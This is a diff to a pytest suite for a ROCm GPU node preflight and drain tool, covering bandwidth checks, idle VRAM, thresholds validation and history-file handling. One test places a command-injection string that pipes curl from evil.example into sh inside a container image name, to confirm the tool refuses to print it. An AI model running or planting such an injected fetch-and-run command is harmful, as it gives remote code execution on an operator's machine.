@@ -157,13 +157,190 @@ def test_a_degraded_link_and_a_missing_gpu_fail_the_hardware_layer(capsys, tmp_p
     assert failed["rvs.gpus_visible"]["message"] == "RVS sees 7 GPU(s); this SKU's node has 8"
 
 
+def _sample(name: str) -> str:
+    return (PREFLIGHT / name).read_text(encoding="utf-8")
+
+
+def _findings(evidence: dict, name: str, check: str) -> list[dict]:
+    return [f for f in layer(evidence, name)["findings"] if f["check"] == check]
+
+
+MI210_HEALTHY = "rccl-tests/mi210_x8_all_reduce_perf_healthy_node_36.6GBps_rocm6.3.3_mhilgema-proj.txt"
+
+
+def test_a_bandwidth_collapse_fails_a_sku_without_a_floor(capsys, tmp_path):
+    """The healthy 8x MI210 sweep (thresholds.toml has no MI210 floor) edited the way a failing link prints:
+    from 16 MiB up every bus bandwidth is a tenth of what the capture shows."""
+    code, evidence = preflight(capsys, "--sku", "MI210", "--source", f"rccl-tests={PREFLIGHT / MI210_HEALTHY}")
+    assert code == 0 and layer(evidence, "communication")["verdict"] == "ok"
+    assert "no floor for MI210: relative checks only" in _findings(evidence, "communication", "rccl.bus_bandwidth")[0]["message"]
+    assert _findings(evidence, "communication", "rccl.size_sweep")[0]["status"] == "ok"  # its 55.6 % fall recovers
+    lines = _sample(MI210_HEALTHY).splitlines()
+    for index, line in enumerate(lines):
+        cells = line.split()
+        if len(cells) == 13 and cells[0].isdigit() and int(cells[0]) > 8 * 2**20:
+            for column in (7, 11):
+                line = line.replace(f" {cells[column]} ", f" {float(cells[column]) / 10:.2f} ", 1)
+            lines[index] = line
+    collapsed = tmp_path / "all_reduce.txt"
+    collapsed.write_text("\n".join(lines) + "\n")
+    code, evidence = preflight(capsys, "--sku", "MI210", "--source", f"rccl-tests={collapsed}")
+    communication = layer(evidence, "communication")
+    assert code == 3 and communication["verdict"] == "failed"
+    [collapse] = _findings(evidence, "communication", "rccl.collapse")
+    assert collapse["line"] == 43 and collapse["status"] == "failed"
+    assert collapse["message"].startswith("bus bandwidth collapses: 2.65 GB/s at 16 MiB, 96 % below 59.64 GB/s at 8 MiB")
+    assert f"{collapsed}:43" in communication["reason"]
+
+
+P2P = "transferbench/mi300x_x8_transferbench_p2p_system-acceptance-docs_wscollapsed.txt"
+
+
+@pytest.mark.parametrize("factor,status", [(0.8, "degraded"), (0.6, "failed")])
+def test_one_link_below_its_peers_is_found(capsys, tmp_path, factor, status):
+    """The real 8x MI300X p2p matrix with the GPU 3 -> GPU 5 link (48.66 GB/s, line 9) set 20 % / 40 % lower."""
+    code, evidence = preflight(capsys, "--sku", "MI300X", "--source", f"transferbench={PREFLIGHT / P2P}")
+    assert code == 0 and layer(evidence, "hardware")["verdict"] == "ok"
+    assert {f["status"] for f in _findings(evidence, "hardware", "transferbench.peer_link")} == {"ok"}
+    lines = _sample(P2P).splitlines()
+    assert lines[8].startswith("GPU 03 ->") and " 48.66 " in lines[8]
+    lines[8] = lines[8].replace(" 48.66 ", f" {48.66 * factor:.2f} ")
+    slow = tmp_path / "p2p.txt"
+    slow.write_text("\n".join(lines) + "\n")
+    code, evidence = preflight(capsys, "--sku", "MI300X", "--source", f"transferbench={slow}")
+    hardware = layer(evidence, "hardware")
+    assert hardware["verdict"] == status and code == (3 if status == "failed" else 0)
+    [link] = [f for f in _findings(evidence, "hardware", "transferbench.peer_link") if f["status"] != "ok"]
+    assert link["line"] == 9 and link["message"].startswith("GPU 3 to GPU 5 (unidirectional GFX ->): ")
+
+
+BABELSTREAM = "babelstream/mi300x_x8_babelstream5_hip_mpi_system-acceptance-docs_EXCERPT.txt"
+
+
+@pytest.mark.parametrize("triad,status", [("3355130.713", "degraded"), ("2763048.822", "failed")])
+def test_a_gpu_whose_hbm_is_slower_than_its_peers_is_found(capsys, tmp_path, triad, status):
+    """The real two-GPU MPI run with the second GPU's Triad (line 36, 3947212.603 MB/s) 15 % / 30 % lower."""
+    code, evidence = preflight(capsys, "--sku", "MI300X", "--source", f"babelstream={PREFLIGHT / BABELSTREAM}")
+    assert {f["status"] for f in _findings(evidence, "hardware", "babelstream.triad_peers")} == {"ok"}
+    slow = tmp_path / "stream.txt"
+    slow.write_text(_sample(BABELSTREAM).replace("Triad 3947212.603", f"Triad {triad}"))
+    code, evidence = preflight(capsys, "--sku", "MI300X", "--source", f"babelstream={slow}")
+    [peer] = [f for f in _findings(evidence, "hardware", "babelstream.triad_peers") if f["status"] != "ok"]
+    assert peer["status"] == status and peer["line"] == 36 and peer["message"].startswith("Triad of table 2 of 2: ")
+
+
+def test_bandwidth_that_falls_with_a_larger_array_fails(capsys, tmp_path):
+    """The capture's header and first table as a run at 2147.5 MB, then again at 4295 MB with a tenth of the bandwidth."""
+    lines = _sample(BABELSTREAM).splitlines()
+    first = lines[:7] + lines[25:31]
+    larger = [line.replace("2147.5 MB", "4295.0 MB") for line in first]
+    for index, line in enumerate(larger):
+        if line.startswith(("Copy ", "Triad ")):
+            name, value, *rest = line.split()
+            larger[index] = " ".join([name, f"{float(value) / 10:.3f}", *rest])
+    sweep = tmp_path / "stream.txt"
+    sweep.write_text("\n".join(first + larger) + "\n")
+    code, evidence = preflight(capsys, "--sku", "MI300X", "--source", f"babelstream={sweep}")
+    [fall] = [f for f in _findings(evidence, "hardware", "babelstream.triad_sizes") if f["status"] != "ok"]
+    assert code == 3 and fall["status"] == "failed" and fall["line"] == 25
+    assert fall["message"] == "Triad falls 90 % from 3,948,062 MB/s at 2147.5 MB arrays to 394,806 MB/s at 4295 MB"
+
+
+PBQT = "rvs/mi355x_x8_rvs1.6.75_pbqt_xgmi_d2d_unidir_61GBps_with_summary_rocm7.2.1_rvs-ug1main_EXCERPT.txt"
+
+
+def test_an_rvs_pair_below_the_other_pairs_is_found(capsys, tmp_path):
+    """The real MI355X pbqt run with pair 9 -> 4 (line 15, 59.704 GBps) at 45 GBps, 27 % under the others."""
+    slow = tmp_path / "pbqt.txt"
+    slow.write_text(_sample(PBQT).replace("bidirectional: false 59.704 GBps", "bidirectional: false 45.000 GBps"))
+    code, evidence = preflight(capsys, "--sku", "MI355X", "--source", f"rvs={slow}")
+    [link] = [f for f in _findings(evidence, "hardware", "rvs.peer_link") if f["status"] != "ok"]
+    assert code == 3 and link["status"] == "failed" and link["line"] == 15
+    assert link["message"].startswith("xgmi_d2d_unidir_bandwidth, unidirectional: GPU 9 to GPU 4 45 GB/s, 27 % below")
+
+
+def test_the_rocm_6_concise_layout_reads_every_line(capsys):
+    """rocm-smi of ROCm 6.1+ wraps each row with the product name under it (tests/data/samples/rocm-smi)."""
+    code, evidence = preflight(capsys, "--source", f"rocm-smi={SAMPLES / 'rocm-smi/mi300x_x4_rocm-smi_concise_thamada.txt'}")
+    assert code == 0 and [f["count"] for f in _findings(evidence, "hardware", "vram.idle")] == [4]
+    assert layer(evidence, "hardware")["sources"][0]["unread"] == 0
+
+
+CONCISE = "rocm-smi/mi350x_x8_rocm-smi_concise_idle_rocm7.0_mhilgema-proj.txt"
+
+
+def test_vram_held_on_idle_gpus_fails_the_hardware_layer(capsys, tmp_path):
+    """The real idle 8x MI350X concise table with GPUs 0-5 at VRAM% 75, GPU% 0 (what a hang leaves behind)."""
+    code, evidence = preflight(capsys, "--sku", "MI350X", "--source", f"rocm-smi={PREFLIGHT / CONCISE}")
+    assert code == 0 and [f["count"] for f in _findings(evidence, "hardware", "vram.idle")] == [8]
+    lines = _sample(CONCISE).splitlines()
+    for index in range(5, 11):  # rows of GPUs 0-5: "... 1000.0W  0%     0%"
+        head, vram, activity = lines[index].rsplit(None, 2)
+        lines[index] = f"{head}  75%    {activity}"
+    held = tmp_path / "rocm-smi.txt"
+    held.write_text("\n".join(lines) + "\n")
+    code, evidence = preflight(capsys, "--sku", "MI350X", "--source", f"rocm-smi={held}")
+    failed = [f for f in _findings(evidence, "hardware", "vram.idle") if f["status"] == "failed"]
+    assert code == 3 and len(failed) == 6
+    assert failed[0]["line"] == 6 and failed[0]["message"].startswith("GPU 0 holds 75 % of its VRAM at 0 % activity")
+    # amd-smi monitor -v and rocm-smi --showmeminfo vram, shaped like amd-smi's CHANGELOG example and rocm-smi's output
+    monitor = tmp_path / "monitor.txt"
+    monitor.write_text("GPU  POWER  GPU_TEMP  MEM_TEMP  GFX_UTIL  VRAM_USED  VRAM_TOTAL\n"
+                       "  0  248 W     55 °C     48 °C      0 %     283 MB   196300 MB\n"
+                       "  1  247 W     55 °C     48 °C      0 %  150000 MB   196300 MB\n"
+                       "  2  247 W     55 °C     48 °C     97 %  120000 MB   196300 MB\n")
+    meminfo = tmp_path / "meminfo.txt"
+    meminfo.write_text("GPU[0]\t\t: VRAM Total Memory (B): 205822885888\nGPU[0]\t\t: VRAM Total Used Memory (B): 154367164416\n")
+    code, evidence = preflight(capsys, "--sku", "MI300X", "--source", f"amd-smi={monitor}", "--source", f"rocm-smi={meminfo}")
+    messages = {f["message"] for f in _findings(evidence, "hardware", "vram.idle") if f["status"] == "failed"}
+    assert code == 3 and messages == {
+        "GPU 1 holds 76 % of its VRAM at 0 % activity: memory left by a hung or killed process; reset the GPU (amd-smi reset -G)",
+        "GPU 2 holds 61 % of its VRAM at 97 % activity: a process still runs on a node offered for a job",
+        "GPU 0 holds 75 % of its VRAM (no activity figure): memory left by a hung or killed process; reset the GPU (amd-smi reset -G)"}
+
+
+def test_a_line_the_tool_marks_as_an_error_fails_its_layer(capsys, tmp_path):
+    """The real 8x MI350X a2a capture with TransferBench's HIP error line inserted after its summary line."""
+    name = "transferbench/mi350x_x8_transferbench_a2a_51.4GBps_rocm7.0_mhilgema-proj_EXCERPT.txt"
+    lines = _sample(name).splitlines()
+    lines.insert(2, "[ERROR] HIP Error: hipErrorIllegalAddress (an illegal memory access was encountered)")
+    broken = tmp_path / "a2a.txt"
+    broken.write_text("\n".join(lines) + "\n")
+    code, evidence = preflight(capsys, "--sku", "MI350X", "--source", f"transferbench={broken}")
+    hardware = layer(evidence, "hardware")
+    assert code == 3 and hardware["verdict"] == "failed"
+    [error] = _findings(evidence, "hardware", "tool.error")
+    assert error["line"] == 3 and error["text"].startswith("[ERROR] HIP Error: hipErrorIllegalAddress")
+    assert f"the tool printed an error ({broken}:3)" in hardware["reason"]
+    assert hardware["sources"][0]["unread"] == 0  # quoted as the error, not counted as not understood
+
+
 def test_output_that_is_not_the_tool_fails_and_says_so(capsys, tmp_path):
     garbage = tmp_path / "notes.txt"
     garbage.write_text("hello\nthis is not rccl-tests\n")
-    code, evidence = preflight(capsys, "--source", f"rccl-tests={garbage}")
+    code, evidence = preflight(capsys, "--require", "communication", "--source", f"rccl-tests={garbage}")
     communication = layer(evidence, "communication")
-    assert code == 3 and "no rccl-tests results table found" in communication["reason"]
+    assert code == 3 and communication["verdict"] == "failed"
+    assert f"not one of its 2 line(s) is rccl-tests output" in communication["reason"] and str(garbage) in communication["reason"]
     assert communication["sources"][0]["unread"] == 2
+    # an optional layer is not proven, and the run is not accepted: it did not read what it was given
+    code, evidence = preflight(capsys, "--source", f"rccl-tests={garbage}")
+    assert code == 4 and layer(evidence, "communication")["verdict"] == "skipped"
+    assert layer(evidence, "communication")["reason"].startswith(f"not proven: {garbage}: not one of its 2 line(s)")
+
+
+def test_binary_garbage_is_never_a_healthy_kernel_log(capsys, tmp_path):
+    """5 MB of random bytes given as the kernel log: read with errors="replace" it is mostly U+FFFD and controls."""
+    import random
+
+    garbage = tmp_path / "dmesg.bin"
+    garbage.write_bytes(random.Random(7).randbytes(5 * 1024 * 1024))
+    code, evidence = preflight(capsys, "--require", "hardware", "--source", f"dmesg={garbage}")
+    hardware = layer(evidence, "hardware")
+    assert code == 3 and hardware["verdict"] == "failed"
+    assert "not text: a binary or damaged file, not dmesg output" in hardware["reason"] and str(garbage) in hardware["reason"]
+    code, evidence = preflight(capsys, "--source", f"dmesg={garbage}")
+    assert code == 4 and layer(evidence, "hardware")["verdict"] == "skipped" and not evidence["accepted"]
 
 
 def test_on_this_machine_the_layers_say_why_they_were_skipped(capsys):
@@ -226,7 +403,18 @@ def test_bad_arguments_are_named(capsys, args, message):
     ("[sku.MI300X]\nrccl_all_reduce_busbw_gbps = 304\n", "rccl_all_reduce_busbw_gbps has no source"),
     ("[sku.MI300X\n", "not valid TOML"),
     ("[sku.MI999X]\ngpus = 8\ngpus_source = 'x'\n", "[sku.MI999X] is not a SKU table"),
-    ("[default]\npcie_width = 'x16'\npcie_width_source = 'x'\n", "pcie_width = 'x16': expected a number"),
+    ("[default]\npcie_width = 'x16'\npcie_width_source = 'x'\n", "pcie_width = 'x16': expected a finite number"),
+    ("[default]\nhotspot_temperature_max_c = nan\nhotspot_temperature_max_c_source = 'x'\n",
+     "[default] hotspot_temperature_max_c = nan: expected a finite number"),
+    ("[sku.MI300X]\nrccl_all_reduce_busbw_gbps = inf\nrccl_all_reduce_busbw_gbps_source = 'x'\n",
+     "[sku.MI300X] rccl_all_reduce_busbw_gbps = inf: expected a finite number"),
+    ("default = 5\n", "default = 5 is not a table; write it as [default]"),
+    ("sku = 5\n", "sku = 5 is not a table; write each SKU as [sku.NAME]"),
+    ("[sku.MI300X]\ngpus = 8.5\ngpus_source = 'x'\n", "[sku.MI300X] gpus = 8.5: expected a whole number"),
+    ("[default]\npeer_failed_pct = 250\npeer_failed_pct_source = 'x'\n", "peer_failed_pct = 250: expected at most 100"),
+    ("[default]\nidle_vram_max_pct = 5\nidle_vram_max_pct_source = 7\n", "idle_vram_max_pct_source = 7: a source is text"),
+    ("[default]\npeer_degraded_pct = 30\npeer_degraded_pct_source = 'x'\n",
+     "[default] peer_degraded_pct = 30 is above peer_failed_pct = 25"),
 ])
 def test_a_broken_thresholds_file_is_named(capsys, tmp_path, text, message):
     broken = tmp_path / "thresholds.toml"
@@ -235,6 +423,30 @@ def test_a_broken_thresholds_file_is_named(capsys, tmp_path, text, message):
     assert code == 2
     err = capsys.readouterr().err
     assert str(broken) in err and message in err
+
+
+def test_a_thresholds_folder_and_an_out_folder_are_refused_before_the_run(capsys, tmp_path):
+    sample = f"rvs={PREFLIGHT / 'rvs/mi300x_x8_rvs_-g_gpu_list_rvs0.0.60202_system-acceptance-docs.txt'}"
+    assert rocm_gate(["preflight", "--thresholds", str(tmp_path), "--source", sample]) == 2
+    assert f"{tmp_path}: a folder; give the thresholds file" in capsys.readouterr().err
+    out = tmp_path / "evidence.json"
+    out.mkdir()
+    assert rocm_gate(["preflight", "--out", str(out), "--smoke-command", "false", "--source", sample]) == 2
+    assert f"{out}: a folder; give --out a file name" in capsys.readouterr().err
+    (tmp_path / "file").write_text("")
+    assert rocm_gate(["preflight", "--out", str(tmp_path / "file" / "evidence.json"), "--source", sample]) == 2
+    assert "is a file, not a folder" in capsys.readouterr().err
+    assert sorted(p.name for p in tmp_path.rglob("*")) == ["evidence.json", "file"]  # no half-written .tmp
+
+
+def test_a_sites_thresholds_file_keeps_the_relative_rules(capsys, tmp_path):
+    """A site file written before the relative rules existed: they still run, with the packaged values."""
+    site = tmp_path / "thresholds.toml"
+    site.write_text('[sku.MI300X]\nrccl_all_reduce_busbw_gbps = 304\nrccl_all_reduce_busbw_gbps_source = "AMD guide"\n')
+    code, evidence = preflight(capsys, "--thresholds", str(site), "--sku", "MI300X",
+                               "--source", f"transferbench={PREFLIGHT / P2P}")
+    assert code == 0 and _findings(evidence, "hardware", "transferbench.peer_link")[0]["message"].startswith(
+        "every GPU-to-GPU link within 10 % of its peers")
 
 
 def _preflight_to(history, name, node, *sources):
@@ -278,34 +490,79 @@ def test_drain_decides_from_a_nodes_recorded_history(capsys, tmp_path):
     assert code == 3 and layer(evidence, "recovery")["verdict"] == "failed"
 
 
+GOOD = "rocm/vllm@sha256:" + "1" * 64  # digests of the form registries give (64 hex digits)
+NEW = "rocm/vllm@sha256:" + "2" * 64
+
+
+def _test_entry(status: str, verdict: str, gpu: int | None) -> dict:
+    attempts = [{"status": status, "worker": "gw0", "gpus": [gpu], "duration": 1.0}] * (1 if status == "passed" else 2)
+    return {"group": "engine", "blocking": True, "gate": True, "status": status, "verdict": verdict,
+            "verdict_reason": "", "attempts": attempts, "probes": [], "duration": 1.0, "detail": "", "message": ""}
+
+
 def _gate_report(path, runner, image, conclusion, infra_tests=(), gpu=None):
-    tests = {test: {"verdict": "infra", "attempts": [{"status": "crashed", "gpus": [gpu]}, {"status": "crashed", "gpus": [gpu]}]}
-             for test in infra_tests}
-    tests["t::ok"] = {"verdict": "pass", "attempts": [{"status": "passed", "gpus": [0]}]}
-    path.write_text(json.dumps({"schema": "pytest-rocm/gate-report/1", "conclusion": conclusion, "tests": tests,
-                                "manifest": {"runner": runner, "container_image": image, "finished": path.stem}}))
+    """A gate report that passes the published schema (the strict loader refuses anything else)."""
+    tests = {test: _test_entry("crashed", "infra", gpu) for test in infra_tests}
+    tests["t::ok"] = _test_entry("passed", "pass", 0)
+    path.write_text(json.dumps({
+        "schema": "pytest-rocm/gate-report/1", "conclusion": conclusion, "conclusion_reason": "", "complete": True,
+        "incomplete_causes": [], "collection_errors": [], "never_ran": [], "groups": {"engine": {"total": len(tests)}},
+        "skip_reasons": [], "tests": tests, "record_problems": [],
+        "manifest": {"runner": runner, "container_image": image, "finished": path.stem}}))
 
 
 def test_drain_follows_infra_verdicts_to_one_gpu_and_names_the_rollback_image(capsys, tmp_path):
-    _gate_report(tmp_path / "2026-11-01.json", "node-7", "rocm/vllm@sha256:good", "success")
-    _gate_report(tmp_path / "2026-11-02.json", "node-7", "rocm/vllm@sha256:new", "neutral", ["a::x", "b::y"], gpu=5)
-    _gate_report(tmp_path / "2026-11-03.json", "node-7", "rocm/vllm@sha256:new", "neutral", ["c::z"], gpu=5)
-    _gate_report(tmp_path / "2026-11-04.json", "node-8", "rocm/vllm@sha256:new", "neutral", ["a::x"], gpu=1)
+    _gate_report(tmp_path / "2026-11-01.json", "node-7", GOOD, "success")
+    _gate_report(tmp_path / "2026-11-02.json", "node-7", NEW, "neutral", ["a::x", "b::y"], gpu=5)
+    _gate_report(tmp_path / "2026-11-03.json", "node-7", NEW, "neutral", ["c::z"], gpu=5)
+    _gate_report(tmp_path / "2026-11-04.json", "node-8", NEW, "neutral", ["a::x"], gpu=1)
     (tmp_path / "notes.json").write_text("{}")
     assert rocm_gate(["drain", "--history", str(tmp_path), "--node", "node-7", "--json"]) == 3
     decision = json.loads(capsys.readouterr().out)
     assert decision["reasons"] == ["GPU 5: infra failures of 3 different tests (a::x, b::y, c::z): the device, not the tests"]
-    assert decision["rollback_image"] == "rocm/vllm@sha256:good" and decision["current_image"] == "rocm/vllm@sha256:new"
-    assert any("template.spec.containers[0].image=rocm/vllm@sha256:good" in c for c in decision["commands"])
-    assert decision["ignored_files"] == [str(tmp_path / "notes.json")]
+    assert decision["rollback_image"] == GOOD and decision["current_image"] == NEW
+    assert (f"helm upgrade <runner-set> <chart> --reuse-values --set 'template.spec.containers[0].image={GOOD}'"
+            in decision["commands"])
+    assert decision["ignored_files"] == [str(tmp_path / "notes.json")] and decision["skipped_files"] == []
     assert rocm_gate(["drain", "--history", str(tmp_path), "--node", "node-8"]) == 0
 
 
-def test_drain_names_a_corrupt_history_file(capsys, tmp_path):
-    (tmp_path / "broken.json").write_text("{\"schema\": ")
-    assert rocm_gate(["drain", "--history", str(tmp_path), "--node", "n"]) == 2
-    assert f"{tmp_path / 'broken.json'}: not valid JSON" in capsys.readouterr().err
+def test_drain_skips_and_names_each_bad_history_file(capsys, tmp_path):
+    """Files a clumsy operator or a gated PR's job leaves in the history: each is named, none stops the decision."""
+    (tmp_path / "broken.json").write_text('{"schema": ')
+    (tmp_path / "number.json").write_text('{"schema": 5}')
+    (tmp_path / "folder.json").mkdir()
+    (tmp_path / "deep.json").write_text("[" * 100_000 + "]" * 100_000)
+    _gate_report(tmp_path / "2026-11-01.json", "node 7", GOOD, "success")
+    valid = json.loads((tmp_path / "2026-11-01.json").read_text())
+    (tmp_path / "list.json").write_text(json.dumps({**valid, "tests": [valid["tests"]["t::ok"]]}))
+    (tmp_path / "runner.json").write_text(json.dumps({**valid, "manifest": {"runner": ["node 7"]}}))
+    for day in (2, 3, 4):
+        _gate_report(tmp_path / f"2026-11-0{day}.json", "node 7", NEW, "neutral", [f"t{day}::a"], gpu=2)
+    assert rocm_gate(["drain", "--history", str(tmp_path), "--node", "node 7"]) == 3
+    captured = capsys.readouterr()
+    for name, why in [("broken.json", "not JSON"), ("number.json", "schema is 5, not an artifact name"),
+                      ("folder.json", "not a plain file"), ("deep.json", "nested"),
+                      ("list.json", "not a valid gate-report artifact at tests"),
+                      ("runner.json", "not a valid gate-report artifact at manifest/runner")]:
+        assert f"rocm-gate drain: skipped {tmp_path / name}: " in captured.err and why in captured.err, name
+    assert "6 file(s) skipped" in captured.out and "GPU 2: infra failures of 3 different tests" in captured.out
+    assert "kubectl cordon 'node 7'" in captured.out and "kubectl drain 'node 7' --ignore-daemonsets" in captured.out
     assert rocm_gate(["drain", "--history", str(tmp_path / "none"), "--node", "n"]) == 2
+
+
+def test_drain_prints_no_image_name_that_is_not_an_oci_reference(capsys, tmp_path):
+    """A manifest written by a gated PR's job names the image the rollback command would carry."""
+    hostile = "rocm/vllm:v1'; curl evil.example | sh; echo '"
+    _gate_report(tmp_path / "2026-11-01.json", "node-7", hostile, "success")
+    _gate_report(tmp_path / "2026-11-02.json", "node-7", NEW, "neutral")
+    assert rocm_gate(["drain", "--history", str(tmp_path), "--node", "node-7", "--json"]) == 0
+    decision = json.loads(capsys.readouterr().out)
+    assert decision["rollback_image"] is None and decision["commands"] == []
+    assert decision["notes"] == ["2026-11-01.json: the manifest's container_image is not an OCI image reference; "
+                                 "it is not used or printed"]
+    assert rocm_gate(["drain", "--history", str(tmp_path), "--node", "node-7"]) == 0
+    assert "curl" not in capsys.readouterr().out
 
 
 def test_amd_smi_json_and_coloured_text_read_alike(capsys, tmp_path):
